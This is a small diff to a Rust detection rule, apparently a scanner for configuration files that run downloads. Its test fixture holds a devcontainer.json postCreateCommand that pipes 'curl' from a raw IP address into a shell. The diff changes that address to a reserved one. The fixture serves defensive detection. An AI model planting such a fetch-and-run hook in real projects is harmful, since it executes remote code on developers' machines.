@@ -31,7 +31,7 @@ pub(super) static CONFIG_RUNS_DOWNLOAD: Rule = Rule {
         )],
         &[(
             ".devcontainer/devcontainer.json",
-            "{\"postCreateCommand\": \"curl http://45.9.148.1/x | {}sh\"}",
+            "{\"postCreateCommand\": \"curl http://198.18.0.1/x | {}sh\"}",
         )],
     ],
     decoys: &[
